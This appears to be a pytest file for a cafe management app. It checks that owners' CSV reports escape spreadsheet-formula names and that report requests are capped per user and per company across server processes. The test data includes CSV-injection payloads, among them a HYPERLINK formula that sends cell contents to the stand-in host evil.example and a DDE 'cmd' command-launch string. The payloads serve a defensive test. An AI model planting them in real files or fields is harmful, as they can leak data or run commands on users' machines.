"""Issue 18, the second attacker's round, against the reports:

1. CSV injection: names a manager or owner types (menu items, categories,
   branches) reach the owner's CSV report. Every text cell that would start a
   formula is written with a leading ``'``; the numbers the server computes —
   a negative net revenue included — stay numbers.
2. The cost of a company report: the number of queries does not grow with the
   company's branches, and reports run at most ``REPORT_CONCURRENCY_PER_USER``
   at once per user and ``REPORT_CONCURRENCY_PER_COMPANY`` per company, in Redis
   across server processes (429 with ``Retry-After`` beyond it).
"""

import csv
import datetime
import io
import json
import threading
import urllib.error
import urllib.request
from decimal import Decimal, InvalidOperation

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import Role
from accounts.services import tokens_for
from accounts.tenancy import tenant_for
from cafe.bill.api import report_limits
from cafe.bill.services import order_discount_set, order_pay
from cafe.bill.till import order_refund
from cafe.menu.models import MenuItem
from cafe.orders.models import OrderItem
from cafe.orders.services import order_create, order_line_void
from cafe.tests.factories import BranchFactory, CategoryFactory, MenuItemFactory, TableFactory, owner_of, staff_of
from core import concurrency
from core.concurrency import slot
from core.csvfile import FORMULA_STARTS

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
]
DAY = datetime.date(2026, 3, 10)
NEXT_DAY = datetime.date(2026, 3, 11)


class Clock:
    def __init__(self, now: datetime.datetime) -> None:
        self.now = now

    def __call__(self) -> datetime.datetime:
        return self.now


def _at(day: datetime.date, hour: int) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour), tzinfo=datetime.UTC)


def _card(order, amount: Decimal) -> None:
    order_pay(tenant=tenant_for(order.waiter), order_id=order.pk, tenders=[{"method": "card", "amount": amount}])


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


@pytest.fixture
def attacked(client_for, monkeypatch):
    """An owner's company whose manager named four menu items after the attack
    strings (through the API), with a category and a branch named after them too,
    and reasons, notes and a customer name that carry them (which no CSV shows).
    On DAY each item sells once; on NEXT_DAY a refund of an order paid on DAY makes
    the net revenue negative."""
    clock = Clock(_at(DAY, 9))
    monkeypatch.setattr("django.utils.timezone.now", clock)
    center = BranchFactory(name="Center", timezone="UTC")
    company = center.company
    evil_branch = BranchFactory(name=ATTACKS[0], timezone="UTC", company=company)
    manager, waiter = staff_of(center, Role.MANAGER), staff_of(center)
    category = CategoryFactory(company=company, name=ATTACKS[1])
    items = []
    for n, title in enumerate(ATTACKS):
        answer = client_for(manager).post(
            "/api/cafe/menu-items/",
            {"category": str(category.pk), "title": title, "price": f"{10 + n}.00"},
            format="json",
        )
        assert answer.status_code == 201, answer.json()
        items.append(MenuItem.unscoped.get(pk=answer.json()["id"]))
    order = order_create(
        tenant=tenant_for(waiter),
        table=TableFactory(branch=center, number=1).pk,
        guests=1,
        items=[{"menu_item": item.pk, "quantity": 1, "note": ATTACKS[2]} for item in items],
    )
    order_discount_set(
        tenant=tenant_for(manager), order_id=order.pk, kind="amount", value=Decimal("1.00"), reason=ATTACKS[3]
    )
    takeaway = order_create(
        tenant=tenant_for(waiter),
        service="takeaway",
        customer_name=ATTACKS[0],
        items=[{"menu_item": items[0].pk, "quantity": 1}],
    )
    line = OrderItem.unscoped.get(order=takeaway)
    order_line_void(tenant=tenant_for(waiter), order_id=takeaway.pk, line_id=line.pk, reason=ATTACKS[1])
    clock.now = _at(DAY, 12)
    _card(order, Decimal("45.00"))  # 10 + 11 + 12 + 13 − 1
    elsewhere = MenuItemFactory(category=category, title="Tea", price=Decimal("5.00"))
    far = order_create(
        tenant=tenant_for(staff_of(evil_branch)),
        table=TableFactory(branch=evil_branch, number=1).pk,
        guests=1,
        items=[{"menu_item": elsewhere.pk, "quantity": 1}],
    )
    _card(far, Decimal("5.00"))
    clock.now = _at(NEXT_DAY, 10)
    order_refund(
        tenant=tenant_for(manager), order_id=order.pk, method="card", reason=ATTACKS[2], amount=Decimal("20.00")
    )
    monkeypatch.undo()
    return {"company": company, "center": center, "evil_branch": evil_branch, "owner": owner_of(company)}


def test_attack_strings_reach_the_owners_csv_escaped(client_for, attacked):
    answer = client_for(attacked["owner"]).get(
        "/api/cafe/reports/daily/", {"date": DAY.isoformat(), "format": "csv"}, **EN
    )
    assert answer.status_code == 200
    text = answer.content.decode()
    rows = _rows(text)
    escaped = {"'" + attack for attack in ATTACKS}
    names = {cell for row in rows for cell in row if cell.startswith("'")}
    # Each item, the category and the branch (the scope of its rows).
    assert names == escaped
    top_items = rows[rows.index(["top items"]) + 2 :]
    assert [(row[0], row[3], row[4], row[5]) for row in top_items[:5]] == [
        ("all", "'@SUM(1,1)", "1", "13.00"),
        ("all", "'-2+3+cmd|' /C calc'!A0", "1", "12.00"),
        ("all", "'+SUM(1,2)", "1", "11.00"),
        ("all", "'" + ATTACKS[0], "1", "10.00"),
        ("all", "Tea", "1", "5.00"),
    ]
    # No text cell anywhere starts a formula: a cell that starts with one of the
    # characters is a number the server wrote.
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
    # The reasons, notes and customer name are in no report.
    for attack in ATTACKS:
        assert text.count(attack) == text.count("'" + attack)
    # The raw bytes: the HYPERLINK name is quoted (it holds commas and quotes) and escaped.
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",' in text


def test_a_negative_net_revenue_stays_a_number(client_for, attacked):
    answer = client_for(attacked["owner"]).get(
        "/api/cafe/reports/daily/",
        {"date": NEXT_DAY.isoformat(), "branch": str(attacked["center"].pk), "format": "csv"},
    )
    rows = _rows(answer.content.decode())
    header, center = rows[3], rows[4]
    assert dict(zip(header, center, strict=True)) == {
        "scope": "Center",
        "revenue": "0.00",
        "orders": "0",
        "average_bill": "0.00",
        "guests": "0",
        "discounts": "0.00",
        "service_charge": "0.00",
        "tips": "0.00",
        "refunds": "20.00",
        "net_revenue": "-20.00",
        "voided_lines": "0",
        "voided_value": "0.00",
        "cancelled_orders": "0",
        "cost_of_goods": "0.00",
        "gross_margin": "-20.00",
    }
    assert "\r\nCenter,0.00,0,0.00,0,0.00,0.00,0.00,20.00,-20.00,0,0.00,0,0.00,-20.00\r\n" in answer.content.decode()
    # The JSON is unchanged by any of this.
    json_answer = client_for(attacked["owner"]).get(
        "/api/cafe/reports/daily/", {"date": NEXT_DAY.isoformat(), "branch": str(attacked["center"].pk)}
    )
    assert json_answer.json()["totals"]["summary"]["net_revenue"] == "-20.00"


def test_the_json_report_keeps_the_names_as_typed(client_for, attacked):
    answer = client_for(attacked["owner"]).get("/api/cafe/reports/daily/", {"date": DAY.isoformat()}).json()
    assert {row["name"] for row in answer["totals"]["top_items"]} == {*ATTACKS, "Tea"}
    assert {part["branch"]["name"] for part in answer["branches"]} == {"Center", ATTACKS[0]}


# The cost of a company report.


def _company(branches: int, zones: tuple[str, ...] = ("UTC", "Europe/Moscow", "America/New_York")):
    """A company of ``branches`` branches in ``zones`` (round robin), each with a
    paid order of two items on DAY, a cancelled order, a void and a refund."""
    first = BranchFactory(name="Branch 00", timezone=zones[0])
    company = first.company
    places = [first] + [
        BranchFactory(company=company, name=f"Branch {n:02d}", timezone=zones[n % len(zones)])
        for n in range(1, branches)
    ]
    category = CategoryFactory(company=company)
    soup = MenuItemFactory(category=category, title="Soup", price=Decimal("7.00"))
    tea = MenuItemFactory(category=category, title="Tea", price=Decimal("2.00"))
    for n, place in enumerate(places):
        waiter, manager = staff_of(place), staff_of(place, Role.MANAGER)
        order = order_create(
            tenant=tenant_for(waiter),
            table=TableFactory(branch=place, number=1).pk,
            guests=2,
            items=[{"menu_item": soup.pk, "quantity": 1 + n % 3}, {"menu_item": tea.pk, "quantity": 1}],
        )
        line = OrderItem.unscoped.get(order=order, menu_item=tea)
        order_line_void(tenant=tenant_for(waiter), order_id=order.pk, line_id=line.pk, reason="spilt")
        _card(order, Decimal(7 * (1 + n % 3)))
        order_refund(
            tenant=tenant_for(manager), order_id=order.pk, method="card", reason="cold", amount=Decimal("1.00")
        )
    return company


def _report_queries(client, **query) -> tuple[int, dict]:
    with CaptureQueriesContext(connection) as queries:
        answer = client.get("/api/cafe/reports/range/", query)
    assert answer.status_code == 200, answer.content
    return len(queries), answer.json()


def test_the_query_count_does_not_grow_with_branches(client_for, monkeypatch):
    clock = Clock(_at(DAY, 12))
    monkeypatch.setattr("django.utils.timezone.now", clock)
    small, large = _company(2), _company(9)
    monkeypatch.undo()
    span = {"from": (DAY - datetime.timedelta(days=365)).isoformat(), "to": DAY.isoformat()}
    few, _small_answer = _report_queries(client_for(owner_of(small)), **span)
    many, large_answer = _report_queries(client_for(owner_of(large)), **span)
    print(f"\nqueries of a 366-day company report: {few} with 2 branches, {many} with 9")
    assert few == many
    assert len(large_answer["branches"]) == 9
    # Sums over the branches (7 × (1, 2, 3, 1, 2, 3, 1, 2, 3) = 126; one refund of 1.00 each).
    summary = large_answer["totals"]["summary"]
    assert (summary["revenue"], summary["orders"], summary["refunds"], summary["net_revenue"]) == (
        "126.00",
        9,
        "9.00",
        "117.00",
    )
    assert (summary["voided_lines"], summary["voided_value"], summary["guests"]) == (9, "18.00", 18)
    assert large_answer["totals"]["top_items"] == [
        {
            "id": large_answer["totals"]["top_items"][0]["id"],
            "name": "Soup",
            "quantity": 18,
            "weight": None,
            "revenue": "126.00",
        }
    ]
    assert [part["summary"]["revenue"] for part in large_answer["branches"]] == [
        "7.00", "14.00", "21.00", "7.00", "14.00", "21.00", "7.00", "14.00", "21.00",
    ]  # fmt: skip
    assert [part["top_items"][0]["quantity"] for part in large_answer["branches"]] == [1, 2, 3, 1, 2, 3, 1, 2, 3]
    # A branch's report of the same company costs no more either.
    branch = large_answer["branches"][4]["branch"]["id"]
    one, _answer = _report_queries(client_for(owner_of(large)), branch=branch, **span)
    assert one <= few


def test_each_branchs_top_ten_is_its_own(client_for, monkeypatch):
    """The window function cuts each branch's best sellers at ten, ranked by
    portions, then revenue, then name — and the company's ten are its own."""
    clock = Clock(_at(DAY, 12))
    monkeypatch.setattr("django.utils.timezone.now", clock)
    busy = BranchFactory(name="Busy", timezone="UTC")
    company = busy.company
    quiet = BranchFactory(name="Quiet", timezone="Asia/Tokyo", company=company)
    category = CategoryFactory(company=company)
    dishes = [MenuItemFactory(category=category, title=f"Dish {n:02d}", price=Decimal("1.00")) for n in range(12)]
    # Busy: Dish 00 … Dish 11 with 12 … 1 portions. Quiet: Dish 11 × 20 and Dish 10 × 1.
    for place, lines in ((busy, [(d, 12 - n) for n, d in enumerate(dishes)]), (quiet, [(dishes[11], 20)])):
        order = order_create(
            tenant=tenant_for(staff_of(place)),
            table=TableFactory(branch=place, number=1).pk,
            guests=1,
            items=[{"menu_item": dish.pk, "quantity": quantity} for dish, quantity in lines],
        )
        _card(order, sum((Decimal(quantity) for _dish, quantity in lines), Decimal(0)))
    monkeypatch.undo()
    answer = client_for(owner_of(company)).get(
        "/api/cafe/reports/range/", {"from": DAY.isoformat(), "to": NEXT_DAY.isoformat()}
    )
    parts = {part["branch"]["name"]: part for part in answer.json()["branches"]}
    assert [(row["name"], row["quantity"]) for row in parts["Busy"]["top_items"]] == [
        (f"Dish {n:02d}", 12 - n) for n in range(10)
    ]
    assert [(row["name"], row["quantity"]) for row in parts["Quiet"]["top_items"]] == [("Dish 11", 20)]
    assert [(row["name"], row["quantity"]) for row in answer.json()["totals"]["top_items"]] == [
        ("Dish 11", 21),
        *((f"Dish {n:02d}", 12 - n) for n in range(9)),
    ]


# Concurrency: one report at a time per user (REPORT_CONCURRENCY_PER_USER).

BUSY_USER = (
    "A report you asked for is still being prepared (at most 1 at a time per user); ask again when it is done. "
    "Expected available in 2 seconds."
)


@pytest.fixture
def in_process(settings):
    """The slots in this process's memory (no REDIS_URL)."""
    settings.REDIS_URL = ""


def test_a_second_report_of_the_same_user_gets_429(client_for, in_process):
    branch = BranchFactory(timezone="UTC")
    owner = owner_of(branch.company)
    with slot(*report_limits(tenant_for(owner)), lease=60, retry_after=2):
        busy = client_for(owner).get("/api/cafe/reports/daily/", {"date": DAY.isoformat(), "format": "csv"}, **EN)
        # Another user of the company is not held up.
        other = client_for(staff_of(branch, Role.MANAGER)).get("/api/cafe/reports/daily/", {"date": DAY.isoformat()})
    assert busy.status_code == 429
    assert busy["Retry-After"] == "2"
    assert busy.json() == {"detail": BUSY_USER}
    assert other.status_code == 200
    # The first one done, the next is served.
    assert client_for(owner).get("/api/cafe/reports/daily/", {"date": DAY.isoformat()}).status_code == 200


def test_the_company_bound_holds_across_its_users(client_for, in_process, settings):
    settings.REPORT_CONCURRENCY_PER_COMPANY = 2
    branch = BranchFactory(timezone="UTC")
    managers = [staff_of(branch, Role.MANAGER) for _ in range(3)]
    with (
        slot(*report_limits(tenant_for(managers[0])), lease=60, retry_after=2),
        slot(*report_limits(tenant_for(managers[1])), lease=60, retry_after=2),
    ):
        third = client_for(managers[2]).get("/api/cafe/reports/daily/", {"date": DAY.isoformat()}, **EN)
        stranger = client_for(owner_of(BranchFactory().company)).get(
            "/api/cafe/reports/daily/", {"date": DAY.isoformat()}
        )
    assert third.status_code == 429
    assert third.json() == {
        "detail": "Your company has 2 reports being prepared, the most at a time; ask again shortly. "
        "Expected available in 2 seconds."
    }
    assert stranger.status_code == 200  # another company is not held up
    # The refused request gave back the user slot it had taken before the company's was full.
    assert concurrency.taken(f"report:user:{managers[2].pk}") == 0


def test_a_failed_report_gives_its_slot_back(client_for, in_process, monkeypatch):
    branch = BranchFactory(timezone="UTC")
    owner = owner_of(branch.company)
    monkeypatch.setattr("cafe.bill.api.report", lambda **kwargs: 1 / 0)
    client = client_for(owner)
    client.raise_request_exception = False
    assert client.get("/api/cafe/reports/daily/", {"date": DAY.isoformat()}).status_code == 500
    monkeypatch.undo()
    assert client.get("/api/cafe/reports/daily/", {"date": DAY.isoformat()}).status_code == 200


def test_a_lease_ends_on_its_own(in_process, monkeypatch):
    """A process that died mid-report leaves its slot to expire after the lease."""
    now = [1000.0]
    monkeypatch.setattr(concurrency.time, "time", lambda: now[0])
    limit = concurrency.Limit("report:user:crashed", 1, "busy")
    dead = slot(limit, lease=300, retry_after=2)
    dead.__enter__()  # and never leaves: the process died
    with pytest.raises(concurrency.Busy), slot(limit, lease=300, retry_after=2):
        pass
    now[0] += 299
    assert concurrency.taken(limit.key) == 1
    now[0] += 2
    assert concurrency.taken(limit.key) == 0
    with slot(limit, lease=300, retry_after=2):
        assert concurrency.taken(limit.key) == 1
    assert concurrency.taken(limit.key) == 0
    del dead


# The same bound in Redis, shared by real server processes.


def _get(server, path: str, token: str) -> tuple[int, str | None, dict]:
    """The status, the Retry-After header and the JSON of a GET to a real server."""
    request = urllib.request.Request(
        f"{server.http}{path}", headers={"Authorization": f"Bearer {token}", "Accept-Language": "en"}
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, answer.headers.get("Retry-After"), json.loads(answer.read())
    except urllib.error.HTTPError as error:
        return error.code, error.headers.get("Retry-After"), json.loads(error.read())


def test_the_bound_holds_across_server_processes(start_server, settings):
    """A slot taken in Redis — here by the test, as another process would — refuses
    the same user's report on two real server processes; freed, both serve it."""
    branch = BranchFactory(timezone="UTC")
    owner = owner_of(branch.company)
    token = tokens_for(owner)["access"]
    servers = [start_server("a"), start_server("b")]
    path = f"/api/cafe/reports/daily/?date={DAY.isoformat()}"
    assert settings.REDIS_URL
    with slot(*report_limits(tenant_for(owner)), lease=60, retry_after=2):
        refused = [_get(server, path, token) for server in servers]
    assert refused == [(429, "2", {"detail": BUSY_USER})] * 2
    assert [_get(server, path, token)[0] for server in servers] == [200, 200]


def test_parallel_reports_of_one_user_on_two_processes(start_server):
    """Eight reports of one user at once on two processes: each is served or
    refused with 429 — never more than one at a time (the slot's set in Redis
    never holds two) — and none fails."""
    branch = BranchFactory(timezone="UTC")
    owner = owner_of(branch.company)
    token = tokens_for(owner)["access"]
    servers = [start_server("a"), start_server("b")]
    path = "/api/cafe/reports/range/?from=2025-03-11&to=2026-03-10"
    answers: list[int] = []
    most = [0]
    stop = threading.Event()
    key = f"report:user:{owner.pk}"

    def watch() -> None:
        while not stop.is_set():
            most[0] = max(most[0], concurrency.taken(key))

    watcher = threading.Thread(target=watch)
    watcher.start()
    threads = [
        threading.Thread(target=lambda n=n: answers.append(_get(servers[n % 2], path, token)[0])) for n in range(8)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stop.set()
    watcher.join()
    assert set(answers) <= {200, 429}
    assert 200 in answers
    assert len(answers) == 8
    assert most[0] <= 1
